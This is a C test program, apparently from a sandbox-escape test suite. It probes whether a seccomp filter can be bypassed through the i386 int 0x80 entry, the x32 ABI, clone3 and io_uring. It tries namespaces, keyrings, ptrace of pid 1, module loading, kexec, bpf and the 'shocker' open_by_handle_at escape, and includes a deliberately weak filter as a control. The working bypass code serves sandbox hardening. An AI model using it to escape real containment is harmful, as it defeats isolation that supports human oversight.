// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * esc_seccomp - reach the syscalls a sandbox filter blocks through another
 * door: the i386 entry (int 0x80, other syscall numbers), the x32 ABI
 * (__X32_SYSCALL_BIT), clone3 (whose flags live in memory, out of a
 * filter's sight), io_uring (which runs operations without syscalls).
 * Filters that check only the native numbers, or forget to check the
 * architecture word, let these through.
 *
 * Tried: new user namespaces (unshare, clone3), the keyring (keyctl,
 * add_key), ptrace of pid 1, io_uring_setup, module loading, kexec, bpf,
 * perf_event_open, open_by_handle_at (the "shocker" escape); each through
 * the native, int 0x80 and x32 doors. Anything that creates state runs in a
 * child. A non-negative return is an escape.
 *
 *   esc_seccomp               the attack
 *   esc_seccomp --control     outside, as root, no filter: must work
 *   esc_seccomp --control-weak
 *       outside, under a deliberately weak filter that blocks the native
 *       numbers of these syscalls without checking the architecture: the
 *       native doors are refused and int 0x80 must get through, which
 *       proves the test catches a filter that misses an entry point
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "esc.h"

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

/* i386 syscall numbers (arch/x86/entry/syscalls/syscall_32.tbl) */
#define I386_ptrace	       26
#define I386_kexec_load	       283
#define I386_add_key	       286
#define I386_keyctl	       288
#define I386_unshare	       310
#define I386_init_module       128
#define I386_io_uring_setup    425
#define I386_clone3	       435
#define I386_bpf	       357
#define I386_perf_event_open   336
#define I386_open_by_handle_at 342

/* x32 numbers (syscall_64.tbl, "common"/"x32" rows) */
#define X32_ptrace	   521
#define X32_unshare	   272
#define X32_keyctl	   250
#define X32_add_key	   248
#define X32_io_uring_setup 425
#define X32_clone3	   435

static char *low;	       /* a page below 4 GiB for the i386 door's pointers */
static long ptrace_target = 1; /* pid 1, or a child of ours in the controls */

#if defined(__x86_64__)
static long int80(long nr, long a, long b, long c, long d, long e)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "r8", "r9", "r10", "r11");
	/* the kernel returns -errno: make it look like syscall(2) */
	if (ret < 0 && ret > -4096) {
		errno = (int)-ret;
		return -1;
	}
	return ret;
}
#endif

/*
 * Run @fn in a child; 0 → escaped, 100+errno → refused. With @perm_only,
 * any error other than EPERM/EACCES/ENOSYS means the permission check was
 * passed (the call then failed on our junk arguments): an escape too.
 */
static void in_child(const char *what, long (*fn)(void), bool perm_only)
{
	int st;
	pid_t pid = fork();

	if (pid < 0) {
		esc_refused(what, errno);
		return;
	}
	if (pid == 0) {
		long r = fn();

		_exit(r < 0 ? 100 + (errno & 0x7f) : 0);
	}
	waitpid(pid, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0) {
		esc_escaped(what, "worked");
	} else if (WIFEXITED(st) && WEXITSTATUS(st) >= 100) {
		int e = WEXITSTATUS(st) - 100;

		if (perm_only && e != EPERM && e != EACCES && e != ENOSYS)
			esc_escaped(what, "permission granted (then failed with %s)",
				    strerrorname_np(e) ? strerrorname_np(e) : "?");
		else
			esc_refused(what, e);
	} else if (WIFSIGNALED(st))
		esc_refused(what, WTERMSIG(st) == SIGSYS ? ENOSYS : EINTR);
	else
		esc_refused(what, EINTR);
}

/* native door (libc syscall(): -1 and errno) */
static long n_unshare(void)
{
	return syscall(SYS_unshare, CLONE_NEWUSER);
}
static long n_keyctl(void)
{
	return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1);
}
static long n_add_key(void)
{
	return syscall(SYS_add_key, "user", "vesc-native", "x", 1, KEY_SPEC_PROCESS_KEYRING);
}
/* After a successful attach, detach again: the tracee must not stay stopped. */
static long detach(long r)
{
	if (r == 0) {
		waitpid((pid_t)ptrace_target, NULL, __WALL);
		ptrace(PTRACE_DETACH, (pid_t)ptrace_target, 0, 0);
	}
	return r;
}

static long n_ptrace(void)
{
	return detach(syscall(SYS_ptrace, PTRACE_ATTACH, ptrace_target, 0, 0));
}
static long n_io_uring(void)
{
	char params[120] = { 0 };

	return syscall(SYS_io_uring_setup, 1, params);
}
static long n_clone3(void)
{
	struct clone_args ca = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
	long r = syscall(SYS_clone3, &ca, sizeof(ca));

	if (r == 0)
		_exit(0);
	return r;
}
static long n_init_module(void)
{
	return syscall(SYS_init_module, low, 16, "");
}
static long n_finit_module(void)
{
	return syscall(SYS_finit_module, 0, "", 0);
}
static long n_kexec(void)
{
	return syscall(SYS_kexec_load, 0, 0, NULL, 0);
}
static long n_bpf(void)
{
	/* BPF_MAP_CREATE of an array map: needs CAP_BPF */
	uint32_t attr[16] = { 2, 4, 4, 1 };

	return syscall(SYS_bpf, 0, attr, sizeof(attr));
}
static long n_perf(void)
{
	uint32_t attr[32] = { 1, 128, 0 }; /* PERF_TYPE_SOFTWARE, cpu-clock */

	return syscall(SYS_perf_event_open, attr, -1, 0, -1, 0);
}
static long n_open_by_handle(void)
{
	/* handle of the root inode on ext4/xfs style file systems */
	struct {
		unsigned int bytes;
		int type;
		unsigned char h[8];
	} fh = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };

	return syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, O_RDONLY);
}

#if defined(__x86_64__)
/* i386 door: returns -errno directly */
static long i_unshare(void)
{
	return int80(I386_unshare, CLONE_NEWUSER, 0, 0, 0, 0);
}
static long i_keyctl(void)
{
	return int80(I386_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1, 0, 0);
}
static long i_add_key(void)
{
	strcpy(low, "user");
	strcpy(low + 16, "vesc-i386");
	return int80(I386_add_key, (long)low, (long)(low + 16), (long)(low + 32), 1,
		     KEY_SPEC_PROCESS_KEYRING);
}
static long i_ptrace(void)
{
	return detach(int80(I386_ptrace, PTRACE_ATTACH, ptrace_target, 0, 0, 0));
}
static long i_io_uring(void)
{
	memset(low + 256, 0, 120);
	return int80(I386_io_uring_setup, 1, (long)(low + 256), 0, 0, 0);
}
static long i_clone3(void)
{
	struct clone_args *ca = (struct clone_args *)(low + 512);
	long r;

	memset(ca, 0, sizeof(*ca));
	ca->flags = CLONE_NEWUSER;
	ca->exit_signal = SIGCHLD;
	r = int80(I386_clone3, (long)ca, sizeof(*ca), 0, 0, 0);
	if (r == 0)
		_exit(0);
	return r;
}
static long i_init_module(void)
{
	return int80(I386_init_module, (long)low, 16, (long)low, 0, 0);
}
static long i_kexec(void)
{
	return int80(I386_kexec_load, 0, 0, 0, 0, 0);
}
static long i_bpf(void)
{
	uint32_t *attr = (uint32_t *)(low + 1024);

	memset(attr, 0, 64);
	attr[0] = 2;
	attr[1] = 4;
	attr[2] = 4;
	attr[3] = 1;
	return int80(I386_bpf, 0, (long)attr, 64, 0, 0);
}
static long i_perf(void)
{
	uint32_t *attr = (uint32_t *)(low + 2048);

	memset(attr, 0, 128);
	attr[0] = 1;
	attr[1] = 128;
	return int80(I386_perf_event_open, (long)attr, -1, 0, -1, 0);
}
static long i_open_by_handle(void)
{
	unsigned char *fh = (unsigned char *)(low + 3072);

	memset(fh, 0, 16);
	fh[0] = 8;
	fh[4] = 1;
	fh[8] = 2;
	return int80(I386_open_by_handle_at, AT_FDCWD, (long)fh, O_RDONLY, 0, 0);
}

/* x32 door (libc syscall(): -1 and errno) */
static long x_unshare(void)
{
	return syscall(__X32_SYSCALL_BIT | X32_unshare, CLONE_NEWUSER);
}
static long x_keyctl(void)
{
	return syscall(__X32_SYSCALL_BIT | X32_keyctl, KEYCTL_GET_KEYRING_ID,
		       KEY_SPEC_SESSION_KEYRING, 1);
}
static long x_add_key(void)
{
	return syscall(__X32_SYSCALL_BIT | X32_add_key, "user", "vesc-x32", "x", 1,
		       KEY_SPEC_PROCESS_KEYRING);
}
static long x_ptrace(void)
{
	return detach(syscall(__X32_SYSCALL_BIT | X32_ptrace, PTRACE_ATTACH, ptrace_target, 0, 0));
}
static long x_io_uring(void)
{
	char params[120] = { 0 };

	return syscall(__X32_SYSCALL_BIT | X32_io_uring_setup, 1, params);
}
static long x_clone3(void)
{
	struct clone_args ca = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
	long r = syscall(__X32_SYSCALL_BIT | X32_clone3, &ca, sizeof(ca));

	if (r == 0)
		_exit(0);
	return r;
}
#endif

static const struct attempt {
	const char *what;
	long (*fn)(void);
	bool perm_only;
} attempts[] = {
	{ "unshare(CLONE_NEWUSER), native", n_unshare, false },
	{ "clone3(CLONE_NEWUSER), native", n_clone3, false },
	{ "keyctl(GET_KEYRING_ID, session, create), native", n_keyctl, false },
	{ "add_key(user), native", n_add_key, false },
	{ "ptrace(PTRACE_ATTACH, 1), native", n_ptrace, false },
	{ "io_uring_setup, native", n_io_uring, false },
	{ "init_module, native", n_init_module, true },
	{ "finit_module, native", n_finit_module, true },
	{ "kexec_load, native", n_kexec, true },
	{ "bpf(BPF_MAP_CREATE), native", n_bpf, false },
	{ "perf_event_open, native", n_perf, false },
	{ "open_by_handle_at (shocker), native", n_open_by_handle, true },
#if defined(__x86_64__)
	{ "unshare(CLONE_NEWUSER), int 0x80", i_unshare, false },
	{ "clone3(CLONE_NEWUSER), int 0x80", i_clone3, false },
	{ "keyctl(GET_KEYRING_ID, session, create), int 0x80", i_keyctl, false },
	{ "add_key(user), int 0x80", i_add_key, false },
	{ "ptrace(PTRACE_ATTACH, 1), int 0x80", i_ptrace, false },
	{ "io_uring_setup, int 0x80", i_io_uring, false },
	{ "init_module, int 0x80", i_init_module, true },
	{ "kexec_load, int 0x80", i_kexec, true },
	{ "bpf(BPF_MAP_CREATE), int 0x80", i_bpf, false },
	{ "perf_event_open, int 0x80", i_perf, false },
	{ "open_by_handle_at (shocker), int 0x80", i_open_by_handle, true },
	{ "unshare(CLONE_NEWUSER), x32", x_unshare, false },
	{ "clone3(CLONE_NEWUSER), x32", x_clone3, false },
	{ "keyctl(GET_KEYRING_ID, session, create), x32", x_keyctl, false },
	{ "add_key(user), x32", x_add_key, false },
	{ "ptrace(PTRACE_ATTACH, 1), x32", x_ptrace, false },
	{ "io_uring_setup, x32", x_io_uring, false },
#endif
};

/* The weak filter of --control-weak: native numbers only, no arch check. */
static int weak_filter(void)
{
	static const int nrs[] = {
		SYS_unshare,	 SYS_clone3,	      SYS_keyctl,
		SYS_add_key,	 SYS_ptrace,	      SYS_io_uring_setup,
		SYS_init_module, SYS_finit_module,    SYS_kexec_load,
		SYS_bpf,	 SYS_perf_event_open, SYS_open_by_handle_at,
	};
	struct sock_filter f[2 + 2 * (sizeof(nrs) / sizeof(nrs[0]))];
	struct sock_fprog prog;
	size_t i, n = 0;

	f[n++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
					      offsetof(struct seccomp_data, nr));
	for (i = 0; i < sizeof(nrs) / sizeof(nrs[0]); i++) {
		f[n++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K,
						      (unsigned int)nrs[i], 0, 1);
		f[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM);
	}
	f[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	prog.len = (unsigned short)n;
	prog.filter = f;
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		return -1;
	return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0);
}

int main(int argc, char **argv)
{
	char status[4096], *p;
	size_t i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1,
		   0);
	if (low == MAP_FAILED) {
		perror("esc_seccomp: mmap MAP_32BIT");
		return 2;
	}
	if (argc == 2 && strncmp(argv[1], "--control", 9) == 0) {
		/* never ptrace the guest's real init: a child of ours instead */
		pid_t t = fork();

		if (t == 0) {
			for (;;)
				pause();
		}
		ptrace_target = t;
	}
	if (argc == 2 && !strcmp(argv[1], "--control-weak")) {
		if (weak_filter() < 0) {
			perror("esc_seccomp: install the weak filter");
			return 2;
		}
		esc_info("control: weak filter installed (native numbers, no arch check)");
	} else if (argc > 1 && !esc_is_control(argc, argv)) {
		fprintf(stderr, "usage: esc_seccomp [--control|--control-weak]\n");
		return 2;
	}
	if (esc_read_file("/proc/self/status", status, sizeof(status)) > 0 &&
	    (p = strstr(status, "Seccomp:"))) {
		p[strcspn(p, "\n")] = 0;
		esc_info("%s", p);
	}
	for (i = 0; i < sizeof(attempts) / sizeof(attempts[0]); i++)
		in_child(attempts[i].what, attempts[i].fn, attempts[i].perm_only);
	if (ptrace_target != 1) {
		kill((pid_t)ptrace_target, SIGKILL);
		waitpid((pid_t)ptrace_target, NULL, 0);
	}
	return esc_finish();
}
